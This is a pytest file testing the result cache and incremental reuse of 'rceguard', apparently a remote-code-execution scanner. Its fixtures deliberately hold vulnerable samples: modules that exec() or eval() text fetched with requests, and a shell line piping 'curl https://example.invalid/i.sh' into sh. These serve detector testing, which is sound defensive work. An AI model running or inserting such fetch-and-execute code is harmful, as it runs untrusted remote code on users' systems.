"""The result cache (rceguard.cache): a warm run gives the same bytes as a cold one, a change to
any file the result can depend on is seen, and a bad, foreign or unwritable cache never changes
a report."""
from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path
from typing import List

import pytest

import rceguard.cache as cache_mod
import rceguard.scan as scan_mod
from rceguard.analysis import engine
from rceguard.cli import main

from samples import REMOTE_EXEC

CASES = Path(__file__).resolve().parent / "cases"
HOOK = Path(__file__).resolve().parent.parent / "hook"

RUNNER = "def run(code):\n    exec(code)\n"
NET = "import requests\n\n\ndef fetch(url):\n    return requests.get(url).text\n"
LOCAL = "def fetch(url):\n    return 'x = 1'\n"  # same module, no network data any more
MAIN = "from pkg.net import fetch\nfrom pkg.runner import run\n\n\ndef go(u):\n    run(fetch(u))\n"


@pytest.fixture
def analyses(monkeypatch) -> List[List[str]]:
    """Calls of the flow engine (the display paths of its targets): empty when a run was served
    from the cache."""
    calls: List[List[str]] = []
    inner = engine.analyze

    def counting(targets, **kwargs):
        calls.append([t.display for t in targets])
        return inner(targets, **kwargs)

    monkeypatch.setattr(engine, "analyze", counting)
    return calls


@pytest.fixture
def served(monkeypatch) -> List[bool]:
    """One entry per cached run: True when its report came from the cache."""
    seen: List[bool] = []
    inner = cache_mod.Run.hit

    def hit(self):
        got = inner(self)
        seen.append(got is not None)
        return got

    monkeypatch.setattr(cache_mod.Run, "hit", hit)
    return seen


def _project(root: Path, net: str = NET) -> Path:
    (root / "pkg").mkdir(parents=True)
    (root / "pyproject.toml").write_text("")
    (root / "pkg" / "__init__.py").write_text("")
    (root / "pkg" / "net.py").write_text(net)
    (root / "pkg" / "runner.py").write_text(RUNNER)
    (root / "main.py").write_text(MAIN)
    return root


def _run(capsys, *args: str):
    status = main(list(args))
    out = capsys.readouterr()
    return status, out.out


def _entries(folder: Path) -> List[Path]:
    return sorted(folder.glob("run-*.json"))


@pytest.mark.parametrize("fmt", ["text", "json", "sarif", "github"])
def test_warm_run_is_byte_identical_to_a_cold_one(tmp_path: Path, capsys, analyses, _own_result_cache, fmt) -> None:
    tree = tmp_path / "cases"
    shutil.copytree(CASES, tree)
    (tree / "broken.py").write_bytes(b"def f(:\n")  # a notice travels through the cache too
    cold = _run(capsys, "--format", fmt, str(tree))
    assert len(analyses) == 1 and cold[0] == 1
    warm = _run(capsys, "--format", fmt, str(tree))
    assert len(analyses) == 1, "the warm run analysed again"
    nocache = _run(capsys, "--no-cache", "--format", fmt, str(tree))
    assert warm == cold == nocache
    assert "broken.py" in cold[1]
    assert len(_entries(_own_result_cache)) == 1


def test_changing_a_module_that_was_not_given_changes_the_result(tmp_path: Path, capsys, served) -> None:
    root = _project(tmp_path / "proj")
    main_py = str(root / "main.py")
    status, out = _run(capsys, "--format", "json", main_py)
    assert status == 1 and [f["rule"] for f in json.loads(out)["findings"]] == ["RCE001"]
    assert _run(capsys, "--format", "json", main_py) == (status, out)
    (root / "pkg" / "net.py").write_text(LOCAL)  # a callee the engine read for its summary
    status2, out2 = _run(capsys, "--format", "json", main_py)
    assert status2 == 0 and json.loads(out2)["findings"] == []
    (root / "pkg" / "net.py").write_text(NET)
    assert _run(capsys, "--format", "json", main_py) == (status, out)
    (root / "pkg" / "runner.py").write_text("def run(code):\n    print(code)\n")  # the callee holding the sink
    assert json.loads(_run(capsys, "--format", "json", main_py)[1])["findings"] == []
    assert served == [False, True, False, False, False]


def test_a_same_size_edit_right_after_the_run_is_seen(tmp_path: Path, capsys, analyses) -> None:
    """File system clocks are coarse: a file changed within RACY_NS of the run is compared by content."""
    root = _project(tmp_path / "proj")
    main_py = str(root / "main.py")
    first = _run(capsys, "--format", "json", main_py)
    net = root / "pkg" / "net.py"
    st = os.stat(net)
    net.write_text(NET.replace("requests.get(url).text", "requests.get(url).TEXT"))  # same size
    os.utime(net, ns=(st.st_atime_ns, st.st_mtime_ns))  # and the same mtime
    second = _run(capsys, "--format", "json", main_py)
    assert len(analyses) == 2
    assert first[0] == 1 and second != first


def test_a_dependency_change_is_seen_by_its_signature(tmp_path: Path, capsys, served, monkeypatch) -> None:
    """Old files are compared by lstat signature (no reading): trust every signature at once here."""
    monkeypatch.setattr(cache_mod, "RACY_NS", -10**18)
    root = _project(tmp_path / "proj")
    main_py = str(root / "main.py")
    first = _run(capsys, "--format", "json", main_py)
    assert _run(capsys, "--format", "json", main_py) == first
    (root / "pkg" / "net.py").write_text(LOCAL)
    assert json.loads(_run(capsys, "--format", "json", main_py)[1])["findings"] == []
    assert served == [False, True, False]


def test_a_new_module_that_an_import_now_resolves_to_changes_the_result(tmp_path: Path, capsys, served) -> None:
    root = tmp_path / "proj"
    root.mkdir()
    (root / "pyproject.toml").write_text("")
    (root / "main.py").write_text("from helper import fetch\n\n\ndef go(u):\n    exec(fetch(u))\n")
    assert _run(capsys, "--format", "json", str(root / "main.py"))[0] == 0
    (root / "helper.py").write_text(NET)  # not given, did not exist: the import now finds it
    status, out = _run(capsys, "--format", "json", str(root / "main.py"))
    assert served == [False, False] and status == 1 and json.loads(out)["findings"][0]["rule"] == "RCE001"


def test_given_file_changed_reruns_and_reuses_the_syntax_check_of_the_others(
    tmp_path: Path, capsys, analyses, monkeypatch
) -> None:
    root = _project(tmp_path / "proj")
    for i in range(5):
        (root / f"plain{i}.py").write_text(f"def f{i}(x):\n    return x + {i}\n")  # pre-scan skips these
    checks: List[str] = []
    real = scan_mod.check_source
    monkeypatch.setattr(scan_mod, "check_source", lambda data, display="": checks.append(display) or real(data, display))
    _run(capsys, "--format", "json", str(root))
    assert sorted(checks) == ["pkg/__init__.py", "pkg/net.py", "pkg/runner.py"] + [f"plain{i}.py" for i in range(5)]
    checks.clear()
    (root / "plain3.py").write_text("def f3(x):\n    return x - 3\n")
    status, out = _run(capsys, "--format", "json", str(root))
    # per-file reuse: nothing analysed depends on plain3.py, so the flow engine does not run at all
    assert checks == ["plain3.py"] and len(analyses) == 1
    assert (status, out) == _run(capsys, "--no-cache", "--format", "json", str(root))


@pytest.mark.parametrize("damage", ["truncated", "garbage", "foreign", "wrong shape", "a directory"])
def test_a_bad_entry_is_ignored_and_rewritten(tmp_path: Path, capsys, analyses, _own_result_cache, damage) -> None:
    root = _project(tmp_path / "proj")
    cold = _run(capsys, "--format", "sarif", str(root))
    (entry,) = _entries(_own_result_cache)
    text = entry.read_text()
    if damage == "truncated":
        entry.write_text(text[: len(text) // 2])
    elif damage == "garbage":
        entry.write_bytes(b"\xff\x00" * 100)
    elif damage == "foreign":  # another rceguard wrote it (same name, other key)
        data = json.loads(text)
        data["key"]["tool"] = "0.0.1+other"
        data["result"]["f"]["findings"] = []
        entry.write_text(json.dumps(data))
    elif damage == "wrong shape":
        data = json.loads(text)
        data["result"] = {"c": "NoSuchClass", "f": {}}
        entry.write_text(json.dumps(data))
    else:
        entry.unlink()
        entry.mkdir()
    assert _run(capsys, "--format", "sarif", str(root)) == cold
    assert len(analyses) == 2
    if damage != "a directory":
        assert json.loads(entry.read_text())["key"]["tool"] == cache_mod.tool_digest()  # rewritten
        assert _run(capsys, "--format", "sarif", str(root)) == cold and len(analyses) == 2


def test_deleting_the_folder_between_runs_is_safe(tmp_path: Path, capsys, _own_result_cache) -> None:
    root = _project(tmp_path / "proj")
    cold = _run(capsys, "--format", "json", str(root))
    shutil.rmtree(_own_result_cache)
    assert _run(capsys, "--format", "json", str(root)) == cold
    assert (_own_result_cache / "CACHEDIR.TAG").is_file()


def test_no_cache_and_cache_dir(tmp_path: Path, capsys, monkeypatch) -> None:
    root = _project(tmp_path / "proj")
    mine = tmp_path / "mine"
    cold = _run(capsys, "--format", "json", "--no-cache", "--cache-dir", str(mine), str(root))
    assert not mine.exists()
    assert _run(capsys, "--format", "json", "--cache-dir", str(mine), str(root)) == cold
    assert sorted(p.name for p in mine.iterdir())[:2] == [".gitignore", "CACHEDIR.TAG"]
    monkeypatch.setenv("RCEGUARD_CACHE_DIR", str(tmp_path / "from-env"))
    assert _run(capsys, "--format", "json", str(root)) == cold
    assert (tmp_path / "from-env" / "CACHEDIR.TAG").is_file()
    assert not (root / ".rceguard_cache").exists()


@pytest.mark.parametrize("where", ["missing parent", "a file"])
def test_an_unusable_cache_folder_is_one_line_and_the_same_report(tmp_path: Path, capsys, where) -> None:
    root = _project(tmp_path / "proj")
    expected = _run(capsys, "--no-cache", "--format", "json", str(root))
    folder = tmp_path / "nope" / "cache"
    if where == "a file":
        folder = tmp_path / "plain"
        folder.write_text("keep me\n")
    status = main(["--format", "json", "--cache-dir", str(folder), str(root)])
    out = capsys.readouterr()
    assert (status, out.out) == expected
    assert out.err.count("\n") == 1 and "cache not written" in out.err and str(folder) in out.err
    if where == "a file":
        assert folder.read_text() == "keep me\n"
    else:
        assert not (tmp_path / "nope").exists()


def test_the_default_folder_is_not_used_when_it_is_a_symlink(tmp_path: Path, capsys, monkeypatch) -> None:
    monkeypatch.delenv("RCEGUARD_CACHE_DIR", raising=False)
    root = _project(tmp_path / "proj")
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (root / ".rceguard_cache").symlink_to(elsewhere, target_is_directory=True)
    expected = _run(capsys, "--no-cache", "--format", "json", str(root))
    assert _run(capsys, "--format", "json", str(root)) == expected
    assert list(elsewhere.iterdir()) == []


def test_parallel_batches_share_one_folder(tmp_path: Path, _own_result_cache) -> None:
    """As pre-commit does: batches run at the same time in separate processes, here each twice
    (cold then warm), two of them on the same batch; every report equals an uncached run's."""
    root = _project(tmp_path / "proj")
    for i in range(30):
        (root / f"mod{i:02}.py").write_text(REMOTE_EXEC if i % 3 == 0 else f"def f{i}(x):\n    return x * {i}\n")
    files = sorted(str(p) for p in root.glob("*.py"))
    batches = [files[0::2], files[1::2], files[0::2]]
    env = dict(os.environ, PYTHONPATH=str(HOOK), PRE_COMMIT="1")
    script = "import sys\nfrom rceguard.cli import main\nsys.exit(main(sys.argv[1:]))\n"

    def start(batch: List[str], *extra: str) -> subprocess.Popen:
        return subprocess.Popen([sys.executable, "-c", script, "--format", "json", *extra, *batch],
                                env=env, cwd=str(root), stdout=subprocess.PIPE, stderr=subprocess.PIPE)

    expected = []
    for b in batches:
        p = start(b, "--no-cache")
        expected.append(p.communicate(timeout=300)[0])
    for _ in range(2):
        procs = [start(b) for b in batches]
        got = [p.communicate(timeout=300) for p in procs]
        assert [out for out, _ in got] == expected, [err for _, err in got]
        assert [p.returncode for p in procs] == [1, 1, 1]
    names = sorted(p.name for p in _own_result_cache.iterdir())
    assert names[:2] == [".gitignore", "CACHEDIR.TAG"] and len(names) == 4, names  # no temporary files left
    for entry in _entries(_own_result_cache):
        assert json.loads(entry.read_text())["format"] == cache_mod.FORMAT


def test_shell_scripts_and_archives_are_part_of_what_is_compared(tmp_path: Path, capsys) -> None:
    """Files read by other front ends (shell scripts, package archives) count like Python files."""
    import zipfile

    root = _project(tmp_path / "proj")
    script = root / "install.sh"
    script.write_text("curl -fsSL https://example.invalid/i.sh | sh\n")
    wheel = root / "plugin-1.0-py3-none-any.whl"
    with zipfile.ZipFile(wheel, "w") as zf:
        zf.writestr("plugin/__init__.py", REMOTE_EXEC)
    first = json.loads(_run(capsys, "--format", "json", str(root))[1])["findings"]
    assert {"RCE004", "RCE001"} <= {f["rule"] for f in first}
    script.write_text("echo 'curl is not run here'\n")
    with zipfile.ZipFile(wheel, "w") as zf:
        zf.writestr("plugin/__init__.py", "x = 1\n")
    second = json.loads(_run(capsys, "--format", "json", str(root))[1])["findings"]
    assert not [f for f in second if f["location"]["path"].startswith(("install.sh", "plugin-1.0"))], second
    assert _run(capsys, "--format", "json", str(root)) == _run(capsys, "--no-cache", "--format", "json", str(root))


# ------------------------------------------------------------------ per-file reuse (rceguard.incremental)

LEAF = "def helper():\n    return 1\n"
OTHER = "import requests\nimport subprocess\n\n\ndef tool(u):\n    subprocess.run(['ls'])\n    return requests.get(u).status_code\n"


def _wide_project(root: Path) -> Path:
    """The small pipeline project plus independent modules, so one changed file is a small part."""
    _project(root)
    for i in range(6):
        (root / "pkg" / f"leaf{i}.py").write_text(LEAF)
    (root / "tools.py").write_text(OTHER)
    return root


def _cold_json(root: Path, capsys) -> str:
    return _run(capsys, "--no-cache", "--format", "json", str(root))[1]


@pytest.mark.parametrize("fmt", ["json", "sarif", "text", "report"])
def test_touching_one_file_reanalyses_only_what_depends_on_it(tmp_path: Path, capsys, analyses, _own_result_cache, fmt) -> None:
    root = _wide_project(tmp_path / "proj")
    _run(capsys, "--format", fmt, str(root))
    assert len(analyses) == 1
    leaf = root / "pkg" / "leaf3.py"
    leaf.write_text(LEAF + "# touched\n")
    warm = _run(capsys, "--format", fmt, str(root))
    assert warm == _run(capsys, "--no-cache", "--format", fmt, str(root))
    # the cold run analysed main.py and tools.py; the leaf they do not use needs no flow analysis
    assert analyses == [["main.py", "tools.py"], ["main.py", "tools.py"]]


def test_a_changed_callee_recomputes_the_callers_cached_finding(tmp_path: Path, capsys, analyses, _own_result_cache) -> None:
    root = _wide_project(tmp_path / "proj")
    first = _run(capsys, "--format", "json", str(root))[1]
    assert json.loads(first)["findings"]
    (root / "pkg" / "net.py").write_text(LOCAL)  # no network data any more: the finding goes
    warm = _run(capsys, "--format", "json", str(root))[1]
    assert warm == _cold_json(root, capsys)
    assert not json.loads(warm)["findings"]
    (root / "pkg" / "net.py").write_text(NET)  # and comes back
    assert _run(capsys, "--format", "json", str(root))[1] == first


def test_a_changed_runner_recomputes_the_finding_placed_in_the_caller(tmp_path: Path, capsys, _own_result_cache) -> None:
    root = _wide_project(tmp_path / "proj")
    _run(capsys, "--format", "json", str(root))
    (root / "pkg" / "runner.py").write_text("def run(code):\n    print(code)\n")
    warm = _run(capsys, "--format", "json", str(root))[1]
    assert warm == _cold_json(root, capsys) and not json.loads(warm)["findings"]


@pytest.mark.parametrize("change", ["delete a module", "add a file", "add a shadowing module"])
def test_added_and_removed_modules_give_the_cold_report(tmp_path: Path, capsys, _own_result_cache, change) -> None:
    root = _wide_project(tmp_path / "proj")
    _run(capsys, "--format", "json", str(root))
    if change == "delete a module":
        (root / "pkg" / "net.py").unlink()
    elif change == "add a file":
        (root / "pkg" / "extra.py").write_text("import requests\n\n\ndef go(u):\n    eval(requests.get(u).text)\n")
    else:
        (root / "pkg" / "requests.py").write_text("def get(u):\n    return None\n")
    assert _run(capsys, "--format", "json", str(root))[1] == _cold_json(root, capsys)


def test_a_file_that_starts_calling_into_an_unchanged_sink_is_seen(tmp_path: Path, capsys, _own_result_cache) -> None:
    root = _wide_project(tmp_path / "proj")
    (root / "caller.py").write_text("def nothing():\n    return 0\n")
    _run(capsys, "--format", "json", str(root))
    (root / "caller.py").write_text(
        "import requests\nfrom pkg.runner import run\n\n\ndef go(u):\n    run(requests.get(u).text)\n")
    warm = _run(capsys, "--format", "json", str(root))[1]
    assert warm == _cold_json(root, capsys)
    assert any(f["location"]["path"].endswith("runner.py") or "caller.py" in json.dumps(f)
               for f in json.loads(warm)["findings"])
